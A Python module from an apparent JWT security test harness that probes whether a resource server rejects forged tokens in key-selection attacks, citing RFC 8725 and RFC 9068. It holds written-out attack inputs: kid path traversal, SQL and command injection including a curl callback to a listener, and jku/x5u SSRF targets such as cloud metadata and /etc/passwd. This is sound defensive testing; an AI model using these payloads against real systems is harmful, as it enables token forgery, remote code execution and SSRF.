"""Catalog §2: key selection (resource server). RFC 8725 §3.8/§3.10 (keys belong to the issuer; never
fetch keys from URLs in the token), RFC 9068 §4; jwt_tool's kid injections, -X s (jku), -X i (jwk)."""
from __future__ import annotations

import secrets

from harness import checks, forge
from harness.mutations import base_claims, base_header, listener_untouched, plant, rs, with_rules
from harness.rskit import RSKit
from harness.scenario import Probe

from .sig import ALG_POLICY

# Every forged token below is signed by a key the target does not trust (or with the empty/"1" HMAC key that a
# kid injection would select): RFC 8725 §3.10 / RFC 9068 §4 "MUST use the keys provided by the authorization
# server": accepted = a vulnerability (checks.invalid_token). kid is only a hint (RFC 7515 §4.1.4).

GENERIC = checks.all_of(checks.invalid_token, checks.body_lacks("/invalid_path", "No such file", "ENOENT",
                                                                  what="the kid path"))


def _harness_signed(kit: RSKit, header: dict, claims: dict) -> str:
    """Signed by a harness key the target does not trust, with the target's algorithm family."""
    alg = header.get("alg", "RS256")
    if alg.startswith("HS"):
        return forge.hmac_token(header, claims, secrets.token_bytes(32))
    if alg.startswith("ES"):
        return forge.jws({**header, "alg": "ES256"}, claims, forge.harness_ec_key(1))
    return forge.jws({**header, "alg": alg if alg[:2] in ("RS", "PS") else "RS256"}, claims, forge.harness_rsa_key(1))


def set_unknown_kid(kit: RSKit) -> list[Probe]:
    h = base_header(kit, kid=f"unknown-{secrets.token_hex(6)}")
    return [Probe("kid unknown, signed by a harness key", _harness_signed(kit, h, base_claims(kit)))]


def _kid_hs(kit: RSKit, kid: str, key: bytes) -> str:
    return forge.hmac_token(base_header(kit, kid=kid), base_claims(kit), key, "HS256")


def set_empty_kid(kit: RSKit) -> list[Probe]:
    return [Probe('kid "" , HS256 with the empty key', _kid_hs(kit, "", b""))]


def set_traversal_kid(kit: RSKit) -> list[Probe]:
    return [Probe(f"kid {kid!r}, HS256 with the empty key", _kid_hs(kit, kid, b""))
            for kid in ("../../../../../../dev/null", "/dev/null")]


def set_bad_path_kid(kit: RSKit) -> list[Probe]:
    return [Probe('kid "/invalid_path", HS256 with the empty key', _kid_hs(kit, "/invalid_path", b""))]


def set_sqli_kid(kit: RSKit) -> list[Probe]:
    return [Probe("kid x' UNION SELECT '1';--, HS256 with key '1'", _kid_hs(kit, "x' UNION SELECT '1';--", b"1"))]


def set_command_kid(kit: RSKit) -> list[Probe]:
    url = plant(kit, "key-kid-cmd-injection", "RCE_in_kid")
    fast = checks.all_of(checks.invalid_token, checks.faster_than(9.0))
    return [Probe("kid |sleep 10", _kid_hs(kit, "|sleep 10", b""), expect=fast),
            Probe("kid | curl <listener>/RCE_in_kid", _kid_hs(kit, f"| curl {url}", b""), expect=fast)]


def _harness_jwks_token(kit: RSKit, **header_members) -> str:
    key = forge.harness_rsa_key(2)
    kit.listener.jwks = {"keys": [forge.public_jwk(key, kid="jwt_tool", use="sig", alg="RS256")]}
    kit.listener.cert_pem = forge.self_signed_cert(key).public_bytes(forge.serialization.Encoding.PEM)
    h = base_header(kit, alg="RS256", kid="jwt_tool", **header_members)
    return forge.jws(h, base_claims(kit), key)


def point_jku_at_harness(kit: RSKit) -> list[Probe]:
    url = plant(kit, "key-jku-spoof", "jwks.json")
    return [Probe("jku = harness JWKS URL, RS256 signed by the harness key", _harness_jwks_token(kit, jku=url))]


def point_jku_at_internal_hosts(kit: RSKit) -> list[Probe]:
    local = plant(kit, "key-jku-ssrf", "ssrf")
    by_name = plant(kit, "key-jku-ssrf", "ssrf-name").replace("127.0.0.1", "localhost")
    kit.planted["key-jku-ssrf"].append(by_name)  # type: ignore[attr-defined]
    targets = [local, by_name, "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"]
    probes = []
    for member in ("jku", "x5u"):
        for url in targets:
            probes.append(Probe(f"{member} = {url.split('/oob/')[0] if '/oob/' in url else url}",
                                _harness_jwks_token(kit, **{member: url}),
                                expect=checks.all_of(checks.invalid_token, checks.faster_than(5.0))))
    return probes


def point_x5u_at_harness(kit: RSKit) -> list[Probe]:
    url = plant(kit, "key-x5u-spoof", "x5u.pem")
    return [Probe("x5u = harness certificate URL, RS256 signed by its key", _harness_jwks_token(kit, x5u=url))]


def embed_jwk(kit: RSKit) -> list[Probe]:
    key = forge.harness_rsa_key(2)
    h = base_header(kit, alg="RS256", kid="jwt_tool", jwk=forge.public_jwk(key, kid="jwt_tool"))
    return [Probe("jwk header = harness public key, RS256 signed by it", forge.jws(h, base_claims(kit), key))]


def embed_x5c(kit: RSKit) -> list[Probe]:
    leaf_key, ca_key = forge.harness_rsa_key(2), forge.harness_rsa_key(4)
    self_signed = forge.self_signed_cert(leaf_key)
    ca = forge.self_signed_cert(ca_key, cn="oauthlab harness CA")
    leaf = forge.self_signed_cert(ca_key, leaf_key.public_key(), cn="oauthlab harness leaf")
    c = base_claims(kit)
    return [Probe("x5c = [self-signed harness certificate]",
                  forge.jws(base_header(kit, alg="RS256", kid="jwt_tool", x5c=[forge.cert_b64(self_signed)]), c, leaf_key)),
            Probe("x5c = [leaf, harness CA] chain",
                  forge.jws(base_header(kit, alg="RS256", kid="jwt_tool",
                                        x5c=[forge.cert_b64(leaf), forge.cert_b64(ca)]), c, leaf_key))]


def drop_kid(kit: RSKit) -> list[Probe]:
    h = base_header(kit)
    h.pop("kid", None)
    probes = [Probe("forged token without kid (harness key)", _harness_signed(kit, dict(h), base_claims(kit)))]
    if "mint" in kit.capabilities:
        # RFC 7515 §4.1.4: kid is a hint ("The structure of the kid value is unspecified"); a verifier may try
        # its keys or insist on a kid: both answers pass, only a 5xx is reported.
        probes.append(Probe("trusted-key token without kid (a hint: 200 or a refusal)", kit.mint(kit.claims(), h),
                            expect=checks.either(200, 401)))
    return probes


def sign_with_other_alg_for_key(kit: RSKit) -> list[Probe]:
    alg = kit.profile.algorithm
    others = {"RS": ("PS256", "RS512"), "PS": ("RS256", "PS512"), "HS": ("HS384", "HS512"), "ES": ()}[alg[:2]]
    return [Probe(f"the {alg} key (kid {kit.kid}) used with {o}", kit.mint(kit.claims(), kit.header(alg=o), o),
                  expect=ALG_POLICY) for o in others if o != alg]


SCENARIOS = [
    rs(id="key-kid-unknown", summary="A token whose kid is unknown, signed by another key, is rejected (no "
       "fallback key).", refs=("RFC 9068 §4", "RFC 8725 §3.8"), severity="high", mutate=set_unknown_kid),
    rs(id="key-kid-empty", summary="kid \"\" with an HMAC under the empty key is rejected.",
       refs=("RFC 8725 §3.10",), severity="critical", mutate=set_empty_kid),
    rs(id="key-kid-traversal", summary="kid path traversal to /dev/null (empty HMAC key) is rejected.",
       refs=("RFC 8725 §3.10",), severity="critical", mutate=set_traversal_kid),
    rs(id="key-kid-bad-path", summary="kid /invalid_path is rejected with a generic message (no path, no "
       "stack trace).", refs=("RFC 8725 §3.10",), severity="medium", mutate=set_bad_path_kid, expect=GENERIC),
    rs(id="key-kid-sqli", summary="kid SQL injection selecting the key '1' is rejected.",
       refs=("RFC 8725 §2.9", "RFC 8725 §3.10"), severity="critical", mutate=set_sqli_kid),
    rs(id="key-kid-cmd-injection", summary="kid command injection is rejected at normal latency, without "
       "contacting the listener.", refs=("RFC 8725 §3.10",), severity="critical", mutate=set_command_kid,
       after=listener_untouched("key-kid-cmd-injection")),
    rs(id="key-jku-spoof", summary="A jku pointing at a harness JWKS is ignored: rejected, and never "
       "fetched.", refs=("RFC 8725 §3.10",), severity="critical", mutate=point_jku_at_harness,
       after=listener_untouched("key-jku-spoof")),
    rs(id="key-jku-ssrf", summary="jku/x5u pointing at loopback, metadata and file URLs cause no fetch and "
       "are rejected.", refs=("draft-8725bis", "RFC 8725 §3.10"), severity="high",
       mutate=point_jku_at_internal_hosts, after=listener_untouched("key-jku-ssrf")),
    rs(id="key-x5u-spoof", summary="An x5u pointing at a harness certificate is ignored: rejected, never "
       "fetched.", refs=("RFC 8725 §3.10",), severity="critical", mutate=point_x5u_at_harness,
       after=listener_untouched("key-x5u-spoof")),
    rs(id="key-jwk-embedded", summary="A token carrying its own jwk header (signed by that key) is rejected.",
       refs=("RFC 8725 §3.8", "CVE-2018-0114"), severity="critical", mutate=embed_jwk),
    rs(id="key-x5c-embedded", summary="A token carrying its own x5c chain is rejected.",
       refs=("RFC 8725 §3.8", "RFC 9068 §4"), severity="critical", mutate=embed_x5c),
    rs(id="key-kid-absent", summary="A forged token without kid is rejected; a trusted one without kid gets "
       "200 or 401, never 5xx.", refs=("RFC 8725 §3.8",), severity="high", mutate=drop_kid),
    rs(id="key-alg-binding", summary="The trusted key used with another algorithm of its family is rejected.",
       refs=("RFC 8725 §3.1",), severity="high", mutate=sign_with_other_alg_for_key, needs=("mint",)),
]

NOT_APPLICABLE = {
    "key-cross-issuer": "needs two issuers trusted by the same resource server; a profile describes one issuer "
                        "(oauth-proxy's token exchange tests cover issuer/key binding for trusted issuers)",
    "key-rotation": "needs control over the authorization server's key set during the run; covered by the "
                    "servers' own rotation tests (tests/test_key_rotation_hs256.py, oauth-proxy JWKS tests)",
}

# The sentence each expectation rests on, with its keyword (audited against the RFC text).
_KEYS = ("RFC 9068 §4: The resource server MUST use the keys provided by the authorization server; RFC 8725 §3.10: "
         "Applications should ensure that [kid] does not create SQL or LDAP injection vulnerabilities by validating "
         "and/or sanitizing the received value")
_FETCH = ("RFC 9068 §4: The resource server MUST use the keys provided by the authorization server; RFC 8725 §3.10: "
          "blindly following a jku header ... could result in server-side request forgery (SSRF) attacks. "
          "Applications SHOULD protect against such attacks (a fetch observed is the attack getting through)")
RULES = {
    "key-kid-unknown": _KEYS,
    "key-kid-empty": _KEYS,
    "key-kid-traversal": _KEYS,
    "key-kid-bad-path": _KEYS + "; error responses do not disclose file paths",
    "key-kid-sqli": _KEYS,
    "key-kid-cmd-injection": _KEYS,
    "key-jku-spoof": _FETCH,
    "key-jku-ssrf": _FETCH,
    "key-x5u-spoof": _FETCH,
    "key-jwk-embedded": "RFC 8725 §3.8 / RFC 9068 §4: the keys MUST belong to the issuer (a key embedded by the "
                        "token's author is no proof)",
    "key-x5c-embedded": "RFC 8725 §3.8 / RFC 9068 §4: the keys MUST belong to the issuer (a chain to no trusted "
                        "anchor is no proof)",
    "key-kid-absent": "RFC 7515 §4.1.4: kid is a hint; a forged token without kid is still refused (RFC 9068 §4: "
                      "MUST validate the signature)",
    "key-alg-binding": "RFC 8725 §3.1: each key MUST be used with exactly one algorithm (signed by the trusted key: "
                       "a deviation)",
}
SCENARIOS = with_rules(SCENARIOS, RULES)
